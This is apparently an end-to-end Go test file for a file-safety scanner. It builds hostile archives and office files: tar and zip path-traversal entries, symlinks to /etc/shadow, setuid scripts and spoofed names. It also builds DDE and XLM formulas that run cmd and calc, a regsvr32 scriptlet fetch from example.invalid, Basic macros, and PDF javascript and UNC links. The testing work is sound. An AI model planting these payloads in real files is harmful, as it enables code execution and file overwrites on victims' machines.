package e2e

import (
	"archive/tar"
	"bytes"
	"testing"
	"time"
)

// tarOf builds a tar from headers and bodies (body length sets Size for regular files).
func tarOf(t testing.TB, entries ...tarEntry) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, e := range entries {
		h := e.h
		if h.Typeflag == tar.TypeReg || h.Typeflag == 0 {
			h.Size = int64(len(e.body))
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		h.ModTime = time.Unix(1700000000, 0)
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(e.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

type tarEntry struct {
	h    tar.Header
	body string
}

func reg(name, body string) tarEntry {
	return tarEntry{tar.Header{Name: name, Typeflag: tar.TypeReg}, body}
}

// TestArchiveEscapes: entries that would land outside the extraction folder, links and
// devices, and names that run, inside tar and zip.
func TestArchiveEscapes(t *testing.T) {
	ok := reg("readme.txt", "hello")
	cases := []advCase{
		{"tar/dotdot", "a.tar.gz", "", gz(t, tarOf(t, ok, reg("../../etc/cron.d/x", "* * * * * root id"))), "safe", ""},
		{"tar/absolute", "a.tar.gz", "", gz(t, tarOf(t, ok, reg("/etc/passwd", "x"))), "safe", ""},
		{"tar/backslash-traversal", "a.tar.gz", "", gz(t, tarOf(t, ok, reg(`..\..\Startup\a.txt`, "x"))), "safe", ""},
		{"tar/symlink", "a.tar.gz", "", gz(t, tarOf(t, ok, tarEntry{tar.Header{Name: "link", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"}, ""})), "safe", ""},
		{"tar/hardlink", "a.tar.gz", "", gz(t, tarOf(t, ok, tarEntry{tar.Header{Name: "hard", Typeflag: tar.TypeLink, Linkname: "/etc/shadow"}, ""})), "safe", ""},
		{"tar/device", "a.tar.gz", "", gz(t, tarOf(t, ok, tarEntry{tar.Header{Name: "dev", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 3}, ""})), "safe", ""},
		{"tar/fifo", "a.tar.gz", "", gz(t, tarOf(t, ok, tarEntry{tar.Header{Name: "fifo", Typeflag: tar.TypeFifo}, ""})), "safe", ""},
		{"tar/pax-path-traversal", "a.tar.gz", "", gz(t, tarOf(t, ok, tarEntry{tar.Header{Name: "safe.txt", Typeflag: tar.TypeReg, PAXRecords: map[string]string{"path": "../../evil.txt"}}, "x"})), "safe", ""},
		{"tar/long-name-exe", "a.tar.gz", "", gz(t, tarOf(t, ok, reg(string(bytes.Repeat([]byte("d/"), 100))+"setup.exe", "hello"))), "safe", ""},
		{"tar/setuid-script", "a.tar.gz", "", gz(t, tarOf(t, ok, tarEntry{tar.Header{Name: "run", Typeflag: tar.TypeReg, Mode: 0o4755}, "#!/bin/sh\nid\n"})), "safe", ""},
		{"tar/exe-named-txt", "a.tar.gz", "", gz(t, tarOf(t, ok, reg("notes.txt", "MZ\x90\x00\x03"+junk(100)))), "safe", ""},
		{"tar/duplicate-names", "a.tar.gz", "", gz(t, tarOf(t, reg("a.txt", "first"), reg("a.txt", "@echo off\r\ndel *\r\n"))), "safe", ""},
		{"tar/plain-tar", "a.tar", "", tarOf(t, ok, reg("b.exe", "x")), "safe", ""},
		{"zip/dotdot", "a.zip", "", mkzip(t, zipEntry{"readme.txt", "hi"}, zipEntry{"../../evil.txt", "x"}), "safe", ""},
		{"zip/absolute", "a.zip", "", mkzip(t, zipEntry{"readme.txt", "hi"}, zipEntry{"/etc/evil.txt", "x"}), "safe", ""},
		{"zip/backslash", "a.zip", "", mkzip(t, zipEntry{"readme.txt", "hi"}, zipEntry{`..\..\evil.txt`, "x"}), "safe", ""},
		{"zip/drive-letter", "a.zip", "", mkzip(t, zipEntry{"readme.txt", "hi"}, zipEntry{`C:/Windows/evil.txt`, "x"}), "safe", ""},
		{"zip/duplicate-names", "a.zip", "", mkzip(t, zipEntry{"a.txt", "hi"}, zipEntry{"a.txt", "@echo off\r\n"}), "safe", ""},
		{"zip/name-case-collision", "a.zip", "", mkzip(t, zipEntry{"A.txt", "hi"}, zipEntry{"a.TXT", "there"}), "safe", ""},
		{"zip/rlo-entry-name", "a.zip", "", mkzip(t, zipEntry{"readme.txt", "hi"}, zipEntry{"invoice\u202efdp.scr", "hi"}), "safe", ""},
		{"zip/ads-entry-name", "a.zip", "", mkzip(t, zipEntry{"readme.txt", "hi"}, zipEntry{"a.pdf:evil.exe", "hi"}), "safe", ""},
		{"zip/html-entry-named-doc", "a.zip", "", mkzip(t, zipEntry{"report.doc", "report\n<html><script>alert(1)</script></html>"}), "safe", ""},
	}
	runCases(t, cases)
}

// TestActiveContentSpreadsheetsAndODF: Excel and OpenDocument features that fetch or run.
func TestActiveContentSpreadsheetsAndODF(t *testing.T) {
	xlsxCT := `<?xml version="1.0"?><Types xmlns="` + ctPackage + `"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`
	xlsx := func(sheet, wbRels, extraCT string, parts ...zipEntry) []byte {
		p := []zipEntry{
			{"[Content_Types].xml", xlsxCT + extraCT + `</Types>`},
			{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `officeDocument" Target="xl/workbook.xml"/></Relationships>`},
			{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + relBase[:len(relBase)-1] + `"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`},
			{"xl/_rels/workbook.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `worksheet" Target="worksheets/sheet1.xml"/>` + wbRels + `</Relationships>`},
			{"xl/worksheets/sheet1.xml", `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + sheet + `</sheetData></worksheet>`},
		}
		return mkzip(t, append(p, parts...)...)
	}
	odt := func(content string, parts ...zipEntry) []byte {
		p := []zipEntry{
			{"mimetype", "application/vnd.oasis.opendocument.text"},
			{"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`},
			{"content.xml", `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2"><office:body><office:text>` + content + `</office:text></office:body></office:document-content>`},
		}
		return mkzip(t, append(p, parts...)...)
	}
	cases := []advCase{
		{"xlsx/dde-formula", "a.xlsx", "", xlsx(`<row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f></c></row>`, "", ""), "safe", ""},
		{"xlsx/webservice-formula", "a.xlsx", "", xlsx(`<row r="1"><c r="A1"><f>WEBSERVICE("http://example.invalid/?"&amp;A2)</f></c></row>`, "", ""), "safe", ""},
		{"xlsx/rtd-formula", "a.xlsx", "", xlsx(`<row r="1"><c r="A1"><f>RTD("evil.progid",,"x")</f></c></row>`, "", ""), "safe", ""},
		{"xlsx/call-formula", "a.xlsx", "", xlsx(`<row r="1"><c r="A1"><f>CALL("kernel32","WinExec","JCJ","calc",0)</f></c></row>`, "", ""), "safe", ""},
		{"xlsx/dde-formula-msexcel", "a.xlsx", "", xlsx(`<row r="1"><c r="A1"><f>MSEXCEL|'\..\..\Windows\System32\regsvr32 /s /i:http://example.invalid/a.sct scrobj.dll'!''</f></c></row>`, "", ""), "safe", ""},
		{"xlsx/dde-formula-shared", "a.xlsx", "", xlsx(`<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">cmd|' /c calc'!A0</f></c><c r="A2"><f t="shared" si="0"/></c></row>`, "", ""), "safe", ""},
		{"xlsx/external-link", "a.xlsx", "", xlsx("", `<Relationship Id="rId5" Type="`+relBase+`externalLink" Target="externalLinks/externalLink1.xml"/>`, `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>`,
			zipEntry{"xl/externalLinks/externalLink1.xml", `<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`}), "safe", ""},
		{"xlsx/xlm-macrosheet", "a.xlsx", "", xlsx("", `<Relationship Id="rId6" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>`, `<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>`,
			zipEntry{"xl/macrosheets/sheet1.xml", `<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>`}), "safe", ""},
		{"xlsx/data-connection", "a.xlsx", "", xlsx("", `<Relationship Id="rId7" Type="`+relBase+`connections" Target="connections.xml"/>`, `<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>`,
			zipEntry{"xl/connections.xml", `<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://example.invalid/q"/></connection></connections>`}), "safe", ""},
		{"odf/basic-macro", "a.odt", "", odt(`<text:p>x</text:p>`, zipEntry{"Basic/Standard/Module1.xml", `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1">Sub Main
Shell("calc")
End Sub</script:module>`}), "safe", ""},
		{"odf/event-listener", "a.odt", "", odt(`<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners><text:p>x</text:p>`), "safe", ""},
		{"odf/linked-section", "a.odt", "", odt(`<text:section text:name="s"><text:section-source xlink:href="http://example.invalid/x.odt" xlink:type="simple"/></text:section>`), "safe", ""},
		{"odf/remote-image", "a.odt", "", odt(`<text:p><draw:frame><draw:image xlink:href="http://example.invalid/t.png" xlink:type="simple"/></draw:frame></text:p>`), "safe", ""},
		{"odf/dde-connection", "a.odt", "", odt(`<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A0" office:automatic-update="true"/></text:dde-connection-decls><text:p>x</text:p>`), "safe", ""},
		{"odf/ole-object", "a.odt", "", odt(`<text:p><draw:frame><draw:object-ole xlink:href="./Obj1"/></draw:frame></text:p>`, zipEntry{"Obj1", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + junk(504)}), "safe", ""},
		{"ods/dde-formula", "a.ods", "", ods(t, `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)"/>`), "safe", ""},
		{"ods/webservice-formula", "a.ods", "", ods(t, `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://example.invalid/&quot;)"/>`), "safe", ""},
		{"ods/pipe-dde-formula", "a.ods", "", ods(t, `<table:table-cell table:formula="of:=cmd|'/c calc'!A0"/>`), "safe", ""},
		{"pdf/uri-javascript-scheme", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"), "safe", ""},
		{"pdf/uri-unc", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >>", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://\\\\\\\\example.invalid\\\\share\\\\a.exe) >> >>"), "safe", ""},
	}
	runCases(t, cases)
}

// ods builds a one-cell OpenDocument spreadsheet.
func ods(t testing.TB, cell string) []byte {
	return mkzip(t,
		zipEntry{"mimetype", "application/vnd.oasis.opendocument.spreadsheet"},
		zipEntry{"META-INF/manifest.xml", `<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`},
		zipEntry{"content.xml", `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="S"><table:table-row>` + cell + `</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`})
}
